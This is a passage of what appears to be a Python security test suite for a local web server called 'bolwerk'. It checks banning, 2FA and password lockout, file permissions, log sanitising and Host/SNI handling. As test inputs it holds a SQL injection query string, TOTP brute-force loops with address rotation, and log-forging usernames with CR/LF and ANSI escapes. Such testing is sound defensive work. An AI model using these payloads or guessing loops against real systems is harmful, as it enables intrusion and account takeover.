    main = S
    S = Server(binary, "many", 18321, 18322, CONFIG_MANY)
    try:
        S.start()
        n = 2000
        addrs = [f"127.6.{i // 250}.{i % 250 + 1}" for i in range(n)]
        t0 = time.monotonic()
        rs = await asyncio.gather(*(h1(a, "GET", "/?id=1%27%20OR%20%271%27%3D%271", tls=False, timeout=60) for a in addrs))
        spent = time.monotonic() - t0
        await asyncio.sleep(3)
        in_db = {b["subject"] for b in S.bans()}
        first = sum(a in in_db for a in addrs)
        await asyncio.sleep(20)
        in_db = {b["subject"] for b in S.bans()}
        later = sum(a in in_db for a in addrs)
        probe = []
        for k in range(0, n, 200):  # bounded: 10 rounds of 200
            probe += await asyncio.gather(*(h1(a, "GET", "/about", tls=False, timeout=30) for a in addrs[k:k + 200]))
        refused = sum(p.status in (0, 403) for p in probe)
        ok = first == n and later == n and refused == n
        report(6, ok, f"{n} distinct attackers at once (threshold 1, {spent:.1f} s): answers {fmt_counts(r.status for r in rs)}; "
               f"bans in the database {first}/{n} after 3 s, {later}/{n} after 23 s; "
               f"a harmless GET after 23 s refused for {refused}/{n}")
    finally:
        S.stop()
        if not KEEP:
            shutil.rmtree(S.dir, ignore_errors=True)
        S = main


# --------------------------------------------------------------------------------------------
# 7, 8, 9. Accounts


async def item7():
    user = "twofa"
    pw = add_user(user)
    a1 = Admin("127.0.7.1")
    r = await a1.login(user, pw)
    if r.status != 303:
        report(7, None, f"sign-in of a fresh account failed ({r.status})")
        return
    setup = await a1.get("/2fa")
    m = re.search(r'class="key">([A-Z2-7=]+)<', setup.text)
    csrf = re.search(r'name="csrf" value="([^"]+)"', setup.text)
    if not m or not csrf:
        report(7, None, "could not read the TOTP key from the 2FA page")
        return
    secret = m.group(1)
    enrol_step = int(time.time() // 30)
    r = await a1.post("/2fa/enable", [("csrf", csrf.group(1)), ("code", totp(secret))])
    if r.status not in (200, 303):
        report(7, None, f"enabling 2FA failed ({r.status})")
        return

    def wrong():
        right = {totp(secret, time.time() + d) for d in (-30, 0, 30)}
        while True:
            c = f"{secrets.randbelow(1000000):06d}"
            if c not in right:
                return c

    log = []

    async def guess(adm, n):
        for _ in range(n):
            csrf = await adm.csrf("/login/2fa")
            r = await adm.post("/login/2fa", [("csrf", csrf), ("code", wrong())])
            log.append(r.status)
            if r.status != 401:
                return

    # The attacker knows the password and guesses codes, re-entering the password after each
    # run of refusals and moving to a new address when one is locked (at most 4 addresses).
    t0 = time.monotonic()
    for k in range(1, 5):
        adm = Admin(f"127.0.7.{10 + k}")
        r = await adm.login(user, pw)
        log.append(f"pw@{k}:{r.status}")
        if r.status != 303:
            break
        await guess(adm, 5)
        again = await adm.login(user, pw)  # re-entering the password must reset nothing
        log.append(f"pw-again@{k}:{again.status}")
        if again.status == 303:
            await guess(adm, 5)
        if sum(1 for x in log if x == 401) >= 12:
            break
    final_adm = Admin("127.0.7.2")
    r = await final_adm.login(user, pw)
    log.append(f"pw@fresh:{r.status}")
    if r.status == 303:
        while int(time.time() // 30) <= enrol_step:
            await asyncio.sleep(1)
        csrf = await final_adm.csrf("/login/2fa")
        final = await final_adm.post("/login/2fa", [("csrf", csrf), ("code", totp(secret))])
    else:
        final = r
    log.append(f"right code:{final.status}")
    wrongs = sum(1 for x in log if x == 401)
    signed_in = final.status == 303 and (final.header("location") or "").rstrip("/").endswith("/_admin")
    ok = final.status != 0 and not signed_in
    report(7, ok, f"{wrongs} wrong codes (password re-entered after each 5, new address when locked), then from a fresh "
           f"address password + right code: "
           f"{final.status} ({time.monotonic() - t0:.0f} s); sequence {' '.join(map(str, log))}")


async def item8():
    user = "owner"
    pw = add_user(user)
    stranger = Admin("127.0.8.1")
    seq = []
    t0 = time.monotonic()
    for _ in range(7):
        r = await stranger.login(user, "not-the-password-" + secrets.token_hex(3))
        seq.append(r.status)
    owner = Admin("127.0.8.2")
    r = await owner.login(user, pw)
    ok = r.status == 303
    report(8, ok, f"7 wrong passwords for '{user}' from 127.0.8.1: {' '.join(map(str, seq))}; "
           f"then the owner from 127.0.8.2: {r.status} after {r.seconds:.1f} s ({time.monotonic() - t0:.0f} s in all)")


async def item9():
    user = "rechk"
    pw = add_user(user)
    adm = Admin("127.0.9.1")
    r = await adm.login(user, pw)
    if r.status != 303:
        report(9, None, f"sign-in failed ({r.status})")
        return
    with S.db() as db:
        before = db.execute("SELECT count(*) FROM login_attempts WHERE user_name = ? AND result NOT IN ('success')", (user,)).fetchone()[0]
    seq = []
    for _ in range(7):
        csrf = await adm.csrf("/password")
        r = await adm.post("/password", [("csrf", csrf), ("current", "guess-" + secrets.token_hex(4)),
                                         ("new", "Another-long-pass-123"), ("confirm", "Another-long-pass-123")])
        seq.append(r.status)
        if r.status == 429:
            break
    await asyncio.sleep(0.5)
    with S.db() as db:
        rows = db.execute("SELECT result, count(*) FROM login_attempts WHERE user_name = ? AND result NOT IN ('success') GROUP BY result", (user,)).fetchall()
    after = sum(c for _, c in rows)
    ok = 429 in seq and after - before >= 5
    report(9, ok, f"wrong current password on /_admin/password in a session: {' '.join(map(str, seq))}; "
           f"login history: {dict(rows)}")


# --------------------------------------------------------------------------------------------
# 10, 11, 12. Secrets, logs, hosts


async def item10():
    modes = {}
    modes["data dir"] = stat.S_IMODE(os.stat(S.data).st_mode)
    for f in ("bolwerk.db", "bolwerk.db-wal", "bolwerk.db-shm"):
        p = os.path.join(S.data, f)
        if os.path.exists(p):
            modes[f] = stat.S_IMODE(os.stat(p).st_mode)
    loose = []
    for root, dirs, files in os.walk(S.data):
        for n in dirs + files:
            p = os.path.join(root, n)
            if stat.S_IMODE(os.lstat(p).st_mode) & 0o077:
                loose.append(os.path.relpath(p, S.data))
    ok = modes["data dir"] == 0o700 and all(v == 0o600 for k, v in modes.items() if k != "data dir") and not loose
    report(10, ok, ", ".join(f"{k} {v:04o}" for k, v in modes.items())
           + (f"; readable by group/other: {loose[:5]}" if loose else "; nothing in it readable by group/other"))


async def item11():
    names = ["x\r\nFAKE admin signed in", "\x1b[2J\x1b[31mFAKE2 admin signed in\x1b[0m", "y\nFAKE3 admin signed in"]
    a = Admin("127.0.11.1")
    rs = [await a.login(n, "wrong-password") for n in names]
    await asyncio.sleep(1.0)
    log = S.log()
    raw_cr = log.count(b"\r")
    raw_esc = log.count(b"\x1b")
    forged = len(re.findall(rb"(^|\n)FAKE", log))
    seen = log.count(b"FAKE")
    ok = raw_cr == 0 and raw_esc == 0 and forged == 0 and seen > 0
    report(11, ok, f"sign-ins as {[n for n in names]!r} ({' '.join(str(r.status) for r in rs)}): the log has "
           f"{raw_cr} raw CR, {raw_esc} raw ESC, {forged} lines starting with FAKE; the names appear {seen} times (escaped)")


def cert_names(extra):
    try:
        p = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{S.https}", *extra],
                           input=b"", capture_output=True, timeout=20)
        pem = re.search(rb"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----", p.stdout, re.S)
        if not pem:
            return None, "handshake refused"
        x = subprocess.run(["openssl", "x509", "-noout", "-subject", "-ext", "subjectAltName"],
                           input=pem.group(0), capture_output=True, timeout=20).stdout.decode()
        names = re.findall(r"(?:DNS|IP Address):([^,\s]+)", x)
        subj = re.search(r"subject=(.*)", x)
        return names, f"subject {subj.group(1).strip() if subj else '?'}, names {names}"
    except (OSError, subprocess.TimeoutExpired) as e:
        return None, f"openssl failed: {e}"


async def item12():
    evil = [("Host", "evil.example")]
    r1 = await h1("127.0.12.1", "GET", "/_admin/login", evil)
    r1p = await h1("127.0.12.1", "POST", "/_admin/login", evil + [FORM_CT], enc([("user", "admin"), ("password", "x")]))
    r2 = await h2req("127.0.12.1", "GET", "/_admin/login", authority="evil.example")
    r3 = await h1("127.0.12.1", "GET", "/_admin/assets/admin.css", evil)
    ok = r1.status == r1p.status == r2.status == r3.status == 421
    report(12, ok, f"Host: evil.example -> GET /_admin/login HTTP/1.1 {r1.status}, POST {r1p.status}, HTTP/2 {r2.status}, "
           f"admin asset {r3.status}")
    site_hosts = {"localhost", "127.0.0.1"}
    for label, extra in (("no SNI (-noservername)", ["-noservername"]), ("unknown SNI", ["-servername", "unknown.example"])):
        names, text = cert_names(extra)
        ok = names is None and text == "handshake refused" or (names is not None and not (set(names) & site_hosts))
        report(12, ok, f"openssl s_client {label}: {text} (the demo site's hosts: localhost, 127.0.0.1)")


# --------------------------------------------------------------------------------------------


async def main(args):
    global S, KEEP
    KEEP = args.keep
    items = [int(i) for i in args.items] or list(range(1, 13))
    S = Server(args.bolwerk, "main", 18311, 18312, CONFIG)
    try:
        S.start()
        print(f"# bolwerk {subprocess.run([S.binary, '--version'], capture_output=True, text=True).stdout.strip()} "
              f"({args.bolwerk}); demo pid {S.proc.pid}, data {S.data}", flush=True)
        for i in items:
            fn = globals()[f"item{i}"]
            try:
                if i == 6:
                    await asyncio.wait_for(fn(args.bolwerk), 300)
                else:
                    await asyncio.wait_for(fn(), 180)
            except Exception as e:  # an item that cannot run is reported, never faked
                report(i, False, f"the replay itself failed: {type(e).__name__}: {e}")
            if S.proc.poll() is not None:
                report(i, False, f"the server died (exit {S.proc.returncode})")
                break
    finally:
        S.stop()
    if not args.keep:
        shutil.rmtree(S.dir, ignore_errors=True)
    else:
        print(f"# kept {S.dir}")
    broken = sum("BROKEN" in line for line in RESULTS)
    print(f"# {len(RESULTS)} checks, {broken} BROKEN")
    return 1 if broken else 0


if __name__ == "__main__":
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--bolwerk", required=True)
    p.add_argument("--keep", action="store_true", help="keep the temporary data directories and logs")
    p.add_argument("items", nargs="*", help="item numbers (default all)")
    args = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 16384)), hard))
    sys.exit(asyncio.run(main(args)))
